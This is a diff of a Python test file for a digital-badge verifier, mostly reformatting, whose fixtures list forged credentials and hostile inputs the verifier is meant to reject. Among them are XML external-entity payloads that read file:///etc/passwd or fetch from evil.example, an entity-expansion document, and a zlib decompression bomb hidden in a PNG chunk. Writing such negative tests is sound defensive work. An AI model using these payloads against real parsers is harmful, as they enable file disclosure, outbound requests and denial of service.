@@ -1,4 +1,4 @@
-"""Forged and hostile badge files: a failed check or a typed error, never a valid badge or a crash."""
+"""Forged and hostile badge files: a failed check or a typed error, never a valid badge."""
 
 from __future__ import annotations
 
@@ -97,7 +97,9 @@ FORGED: dict[str, str] = {
     "json with a member under a full name": changed(
         MINT.document(), **{"https://schema.org/name": "CISSP"}
     ),
-    "json with another subject": changed(MINT.document(), credentialSubject={**SUBJECT, **TITLE_OF}),
+    "json with another subject": changed(
+        MINT.document(), credentialSubject={**SUBJECT, **TITLE_OF}
+    ),
     "json with a later end": changed(
         MINT.document(MINT.credential(validUntil=day(1))), validUntil=day(900)
     ),
@@ -111,7 +113,9 @@ FORGED: dict[str, str] = {
     "json with a broken proof": changed(
         MINT.document(), proof={**json.loads(MINT.document())["proof"], "proofValue": "z1"}
     ),
-    "json with two proofs": changed(MINT.document(), proof=[json.loads(MINT.document())["proof"]] * 2),
+    "json with two proofs": changed(
+        MINT.document(), proof=[json.loads(MINT.document())["proof"]] * 2
+    ),
 }
 
 
@@ -201,7 +205,8 @@ DAMAGED: dict[str, bytes] = {
     "two in one element": svg(MINT.token(), attribute=False).replace(
         b"<ob:credential ", b'<ob:credential verify="a.b.c" '
     ),
-    "entities": b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + svg(MINT.token()),
+    "entities": b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+    + svg(MINT.token()),
     "entity of a file": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
     + svg(MINT.token()).replace(b"</svg>", b"&a;</svg>"),
     "parameter entity": b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>'
@@ -231,9 +236,7 @@ BOMB = zlib.compress(b"{" + b" " * 50_000_000, 9)
 LARGE: dict[str, bytes] = {
     "long json": MINT.document()[:-1].encode() + b" " * MAX_TEXT_BYTES + b"}",
     "long token": MINT.token().encode() + b"A" * MAX_TEXT_BYTES,
-    "bomb in a png": minting.with_chunks(
-        minting.chunk(b"iTXt", KEYWORD + b"\0\x01\0\0\0" + BOMB)
-    ),
+    "bomb in a png": minting.with_chunks(minting.chunk(b"iTXt", KEYWORD + b"\0\x01\0\0\0" + BOMB)),
     "many chunks": minting.with_chunks(minting.chunk(b"tEXt", b"a\0b") * 25_000),
     "large svg": svg(MINT.token()).replace(b"<circle", b" " * MAX_SVG_BYTES + b"<circle"),
     "many badges": json.dumps(
